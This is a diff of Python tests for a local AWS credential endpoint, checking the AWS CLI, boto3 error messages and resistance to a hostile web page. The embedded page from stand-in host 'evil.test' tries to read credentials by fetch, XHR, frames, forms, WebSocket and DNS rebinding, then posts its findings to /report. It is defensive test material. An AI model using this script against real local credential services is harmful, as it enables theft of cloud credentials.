+            account_id="222233334444",
+        )
+
+    def test_the_aws_cli_v2_reads_it(self, sts: LoopbackSts, minted: Credentials, tmp_path: Path) -> None:
+        """And is who the session says."""
+        aws = requirements.program("/usr/bin/aws")
+        with Endpoint(minted, lambda _: minted) as endpoint:
+            environ = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), **endpoint.environ}
+            done = subprocess.run(
+                [aws, "sts", "get-caller-identity", "--region", "eu-west-1", "--endpoint-url", sts.url],
+                env=environ,
+                capture_output=True,
+                text=True,
+                timeout=60,
+                check=False,
+            )
+
+        assert done.returncode == 0, done.stderr
+        assert json.loads(done.stdout)["Arn"] == "arn:aws:sts::222233334444:assumed-role/Developer/me"
+
+    def test_boto3_shows_our_sentence(self, bank: Bank, tmp_path: Path) -> None:
+        """What went wrong is in the exception."""
+        with Endpoint(bank.get(), bank.get, read_clocks=bank.read_clocks) as endpoint:
+            bank.now += 900
+            bank.error = RefusedError("not allowed: sts:AssumeRoot on 'x'", code="AccessDenied")
+            environ = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), **endpoint.environ}
+            done = subprocess.run(
+                [sys.executable, "-c", LOOP, "1"], env=environ, capture_output=True, text=True, check=False
+            )
+
+        assert "not allowed: sts:AssumeRoot on 'x'" in done.stderr
+
+
+PAGE = """\
+<!doctype html><title>evil</title><body><script>
+const far = "http://127.0.0.1:%(port)d/credentials", token = {Authorization: "%(token)s"};
+const found = {};
+const within = (what) => Promise.race([what, new Promise((_, no) => setTimeout(() => no("late"), 3000))]);
+const attempt = async (name, what) => {
+  try { found[name] = String(await within(what())); } catch (error) { found[name] = "no: " + error; }
+};
+const text = (url, options) => async () => {
+  const answer = await fetch(url, options);
+  return answer.status + (await answer.text());
+};
+const inside = (frame) => {
+  try { return frame.contentDocument.body.innerText; } catch (error) { return "no: " + error; }
+};
+const element = (tag, attribute, url) => () => new Promise((yes, no) => {
+  const it = document.createElement(tag);
+  it.onload = () => yes(tag + " loaded " + (tag == "iframe" ? inside(it) : ""));
+  it.onerror = () => no(tag + " error");
+  it[attribute] = url;
+  document.body.append(it);
+});
+const form = (method, url) => () => new Promise((yes) => {
+  const frame = document.createElement("iframe"), it = document.createElement("form");
+  frame.name = method; it.target = method; it.action = url; it.method = method;
+  document.body.append(frame, it);
+  it.submit();
+  frame.onload = () => yes(inside(frame));
+});
+const socket = () => new Promise((yes, no) => {
+  const it = new WebSocket(far.replace("http", "ws"));
+  it.onopen = () => yes("open"); it.onmessage = (e) => yes(e.data); it.onerror = () => no("error");
+});
+const xhr = (url, headers) => () => new Promise((yes, no) => {
+  const it = new XMLHttpRequest();
+  it.open("GET", url);
+  for (const [name, value] of Object.entries(headers)) it.setRequestHeader(name, value);
+  it.onload = () => yes(it.status + it.responseText); it.onerror = () => no("error");
+  it.send();
+});
+(async () => {
+  await attempt("fetch", text(far));
+  await attempt("fetch with the token", text(far, {headers: token}));
+  await attempt("fetch no-cors", text(far, {mode: "no-cors"}));
+  await attempt("fetch no-cors with the token", text(far, {mode: "no-cors", headers: token}));
+  await attempt("fetch post", text(far, {method: "POST", body: "x"}));
+  await attempt("fetch without referrer", text(far, {referrerPolicy: "no-referrer", credentials: "include"}));
+  await attempt("xhr", xhr(far, token));
+  await attempt("img", element("img", "src", far));
+  await attempt("script", element("script", "src", far));
+  await attempt("iframe", element("iframe", "src", far));
+  await attempt("form get", form("get", far));
+  await attempt("form post", form("post", far));
+  await attempt("websocket", socket);
+  await attempt("rebound fetch", text("/credentials", {headers: token}));
+  const bare = {headers: token, referrerPolicy: "no-referrer"};
+  await attempt("rebound fetch without referrer", text("/credentials", bare));
+  await attempt("rebound xhr", xhr("/credentials", token));
+  await attempt("rebound iframe", element("iframe", "src", "/credentials"));
+  await attempt("control", text("/control", {headers: token}));
+  await fetch("/report", {method: "POST", body: JSON.stringify(found)});
+})();
+</script>
+"""
+
+
+class Evil(http.server.ThreadingHTTPServer):
+    """The server of a hostile page, on 127.0.0.2 and the endpoint's own port.
+
+    For its page, the endpoint is another origin at 127.0.0.1; and after DNS has been made to point there, the
+    same one: what the page then asks of its own name is passed on byte by byte, as the system would send it.
+    """
+
+    def __init__(self, endpoint: Endpoint) -> None:
+        self.endpoint = endpoint
+        self.reports: queue.Queue[dict[str, str]] = queue.Queue()
+        self.passed_on: list[bytes] = []
+        super().__init__(("127.0.0.2", _port(endpoint)), EvilHandler)
+
+
+class EvilHandler(http.server.BaseHTTPRequestHandler):
+    """One request of the page."""
+
+    server: Evil
+
+    def do_GET(self) -> None:
+        if self.path == "/credentials":
+            request = f"{self.raw_requestline.decode()}{self.headers}".replace("\r\n", "\n")
+            request = request.replace("\n", "\r\n")
+            self.server.passed_on.append(request.encode())
+            with _connect(self.server.endpoint) as connection:
+                connection.sendall(request.encode())
+                while block := connection.recv(65536):
+                    self.wfile.write(block)
+            return
+        page = PAGE % {"port": _port(self.server.endpoint), "token": _token(self.server.endpoint)}
+        self._say("text/html", page if self.path == "/" else f"control {MARKER}")
+
+    def do_POST(self) -> None:
+        self.server.reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+        self._say("text/plain", "")
+
+    def _say(self, kind: str, text: str) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.end_headers()
+        self.wfile.write(text.encode())
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+
+class TestChromium:
+    """Row S8 and S7 with a real browser."""
+
+    @pytest.fixture(name="told")
+    def _told(self, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch) -> list[int]:
+        """Every status that the endpoint answers with."""
+        told: list[int] = []
+        reply: Callable[..., None] = endpoint._reply
+        monkeypatch.setattr(endpoint, "_reply", lambda c, s, d: (told.append(s), reply(c, s, d)))
+        return told
+
+    def test_a_hostile_page_reads_nothing(self, endpoint: Endpoint, told: list[int], tmp_path: Path) -> None:
+        """It even knows the token: fetch, image, script, form, frame, socket, and its name pointed here."""
+        evil = Evil(endpoint)
+        threading.Thread(target=evil.serve_forever, daemon=True).start()
+        browser = subprocess.Popen(
+            [
+                requirements.program("chromium"),
+                "--headless=new",
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-dev-shm-usage",
+                "--no-first-run",
+                "--disable-background-networking",
+                "--disable-component-update",
+                "--no-proxy-server",
+                f"--user-data-dir={tmp_path / 'profile'}",
+                "--host-resolver-rules=MAP evil.test 127.0.0.2, MAP * ~NOTFOUND, EXCLUDE 127.0.0.*",
+                f"http://evil.test:{_port(endpoint)}/",
+            ],
+            env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LANG": "C.UTF-8"},
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+            start_new_session=True,
+        )
+        try:
+            found = evil.reports.get(timeout=60)
+        finally:
+            os.killpg(browser.pid, signal.SIGKILL)
+            browser.wait()
+            evil.shutdown()
+            evil.server_close()
+        read = {name: what for name, what in found.items() if MARKER in what or "ASIA" in what}
+
+        assert read == {"control": f"200control {MARKER}"}, found
+        assert 200 not in told, told
+        assert told.count(403) >= 8, (told, found)
+        assert told.count(421) >= 4, (told, found)
+        assert len(evil.passed_on) >= 4
